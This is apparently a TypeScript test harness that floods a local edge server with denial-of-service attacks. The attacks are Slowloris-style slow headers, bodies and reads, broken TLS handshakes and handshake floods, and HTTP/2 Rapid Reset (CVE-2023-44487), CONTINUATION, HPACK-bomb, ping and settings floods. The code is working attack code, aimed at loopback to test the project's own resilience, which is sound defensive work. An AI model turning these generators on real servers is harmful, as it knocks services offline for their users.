import { connect, type Socket } from 'node:net';
import { connect as connectTls } from 'node:tls';
import {
  endHeaders,
  endStream,
  frame,
  frameType,
  headerBlock,
  uint32,
} from '../../src/edge/http2/raw-peer.testing.ts';
import { attackedHost, loopback } from './attack-bed.ts';

/** Connections of one attack. */
export interface Attackers {
  readonly sockets: readonly Socket[];
  /** Those that the edge took, whatever became of them since. */
  readonly taken: number;
  /** Those that are still open. */
  open(): number;
  /** Resolves once the edge, or the attacker, has closed them all. */
  readonly gone: Promise<unknown>;
  end(): void;
}

/** What an attacker needs to know of the edge. */
export interface Target {
  readonly http: number;
  readonly https: number;
  /** How many connections other processes have: the addresses of this one's come after theirs. */
  readonly before?: number;
}

export type Attack = (target: Target, count: number) => Promise<Attackers>;

const dripMs = 100;

function group(sockets: readonly Socket[], timers: readonly NodeJS.Timeout[] = []): Attackers {
  const open = new Set(sockets.filter(socket => !socket.destroyed));
  const gone = Promise.all(
    [...open].map(socket => new Promise<void>(resolve => socket.once('close', () => resolve()))),
  );
  for (const socket of sockets) socket.on('close', () => open.delete(socket));
  const clear = (): void => timers.forEach(timer => clearInterval(timer));
  void gone.then(clear);
  return {
    sockets,
    taken: sockets.filter(socket => connected.has(socket)).length,
    open: () => open.size,
    gone,
    end() {
      clear();
      for (const socket of sockets) socket.destroy();
    },
  };
}

/** A socket whose errors are nobody's: that it is cut off is what is wanted. */
function quiet<T extends Socket>(socket: T): T {
  socket.on('error', () => {});
  return socket;
}

const connected = new WeakSet<Socket>();

/** Connections that one address can have to one port; further ones come from the next address. */
const portsOfAddress = 10_000;

async function plain(port: number, index = 0): Promise<Socket> {
  const localAddress = `127.0.0.${1 + Math.floor(index / portsOfAddress)}`;
  const socket = quiet(connect({ port, host: loopback, localAddress, noDelay: true }));
  socket.once('connect', () => connected.add(socket));
  await new Promise<void>(resolve => socket.once('connect', resolve).once('close', () => resolve()));
  return socket;
}

async function secure(port: number, protocol: 'h2' | 'http/1.1'): Promise<Socket> {
  const socket = quiet(
    connectTls({
      port,
      host: loopback,
      servername: attackedHost,
      ALPNProtocols: [protocol],
      rejectUnauthorized: false,
    }),
  );
  socket.once('secureConnect', () => connected.add(socket));
  await new Promise<void>(resolve => socket.once('secureConnect', resolve).once('close', () => resolve()));
  return socket;
}

async function many(count: number, make: (index: number) => Promise<Socket>): Promise<Socket[]> {
  const sockets: Socket[] = [];
  // As many at once as a backlog takes.
  for (let made = 0; made < count; made += 256)
    sockets.push(
      ...(await Promise.all(
        Array.from({ length: Math.min(256, count - made) }, (_, index) => make(made + index)),
      )),
    );
  return sockets;
}

/** A byte of this for each connection, now and then. */
function drip(sockets: readonly Socket[], byte: string): NodeJS.Timeout {
  return setInterval(() => {
    for (const socket of sockets) if (socket.writable) socket.write(byte);
  }, dripMs);
}

/** Connections that say nothing. */
export const idle: Attack = async ({ http, before = 0 }, count) =>
  group(await many(count, index => plain(http, before + index)));

/** Connections that have had one answer, and keep still over TLS. */
export const idleSecure: Attack = async ({ https }, count) =>
  group(await many(count, () => secure(https, 'http/1.1')));

/** Heads that come byte for byte (Slowloris). */
export const slowHeads: Attack = async ({ http }, count) => {
  const sockets = await many(count, () => plain(http));
  for (const socket of sockets) socket.write('GET / HTTP/1.1\r\nHost: ');
  return group(sockets, [drip(sockets, 'a')]);
};

/** Bodies that begin and never come. */
export const slowBodies: Attack = async ({ http }, count) => {
  const sockets = await many(count, () => plain(http));
  for (const socket of sockets)
    socket.write(`POST /upload HTTP/1.1\r\nHost: ${attackedHost}\r\nContent-Length: 1000\r\n\r\nx`);
  return group(sockets);
};

/** Large answers that nobody reads. */
export const slowReaders: Attack = async ({ http }, count) => {
  const sockets = await many(count, () => plain(http));
  for (const socket of sockets) {
    socket.pause();
    socket.write(`GET /large?bytes=8388608 HTTP/1.1\r\nHost: ${attackedHost}\r\n\r\n`);
  }
  return group(sockets);
};

/** TLS connections of which the first bytes come alone. */
export const halfHandshakes: Attack = async ({ https }, count) => {
  const sockets = await many(count, () => plain(https));
  for (const socket of sockets) socket.write(Buffer.from('160301020001000001fc0303', 'hex'));
  return group(sockets);
};

/** Bytes that are no ClientHello. */
export const noHandshakes: Attack = async ({ https }, count) => {
  const sockets = await many(count, () => plain(https));
  for (const socket of sockets) socket.write('GET / HTTP/1.1\r\nHost: x\r\n\r\n');
  return group(sockets);
};

/** Full handshakes, each thrown away, one after the other by so many clients until `end`. */
export const handshakes: Attack = async ({ https }, count) => {
  const over = new AbortController();
  const loops = Array.from({ length: count }, async () => {
    while (!over.signal.aborted) (await secure(https, 'http/1.1')).destroy();
  });
  return { sockets: [], taken: 0, open: () => 0, gone: Promise.all(loops), end: () => over.abort() };
};

const preface = Buffer.concat([
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  frame(frameType.settings, 0, 0),
]);
const request = headerBlock([
  [':method', 'GET'],
  [':scheme', 'https'],
  [':authority', attackedHost],
  [':path', '/attacked'],
]);

/** HTTP/2 connections that all send frames as fast as they are taken, this often; `begin` gives what makes those of one. */
function overHttp2(begin: () => () => Buffer, times: number): Attack {
  return async ({ https }, count) => {
    const sockets = await many(count, () => secure(https, 'h2'));
    for (const socket of sockets) {
      socket.resume();
      socket.write(preface);
      const frames = begin();
      let left = times;
      const send = (): void => {
        while (left > 0 && socket.writable) {
          left -= 1;
          if (!socket.write(frames())) return;
        }
      };
      socket.on('drain', send);
      send();
    }
    return group(sockets);
  };
}

/** Requests that are reset at once (CVE-2023-44487), `times` 100 of them. */
export const rapidReset = (times: number): Attack =>
  overHttp2(() => {
    let stream = -1;
    return () => {
      const burst: Buffer[] = [];
      for (let index = 0; index < 100; index += 1) {
        stream += 2;
        burst.push(
          frame(frameType.headers, endHeaders | endStream, stream, request),
          frame(frameType.rstStream, 0, stream, uint32(8)),
        );
      }
      return Buffer.concat(burst);
    };
  }, times);

/** A header section without an end. */
export const continuations: Attack = overHttp2(() => {
  let next = frame(frameType.headers, endStream, 1, request);
  return () => {
    const sent = next;
    next = frame(frameType.continuation, 0, 1, headerBlock([['x-filler', 'x'.repeat(8_000)]]));
    return sent;
  };
}, 500);

/** Fields of some kilobytes that a byte stands for. */
export const hpackBombs: Attack = overHttp2(() => {
  const long = Buffer.concat([
    Buffer.from([0x40, 1]),
    Buffer.from('x'),
    Buffer.from([0x7f, 0x81, 0x1e]),
    Buffer.alloc(4_000, 0x61),
  ]);
  const bomb = Buffer.concat([
    frame(frameType.headers, endStream, 1, Buffer.concat([request, long])),
    frame(frameType.continuation, endHeaders, 1, Buffer.alloc(12_000, 0xbe)),
  ]);
  return () => bomb;
}, 1);

export const pings: Attack = overHttp2(() => {
  const burst = Buffer.concat(
    Array.from({ length: 100 }, () => frame(frameType.ping, 0, 0, Buffer.alloc(8))),
  );
  return () => burst;
}, 50);

export const settings: Attack = overHttp2(() => {
  const change = Buffer.concat([Buffer.from([0, 4]), uint32(70_000)]);
  const burst = Buffer.concat(Array.from({ length: 100 }, () => frame(frameType.settings, 0, 0, change)));
  return () => burst;
}, 50);
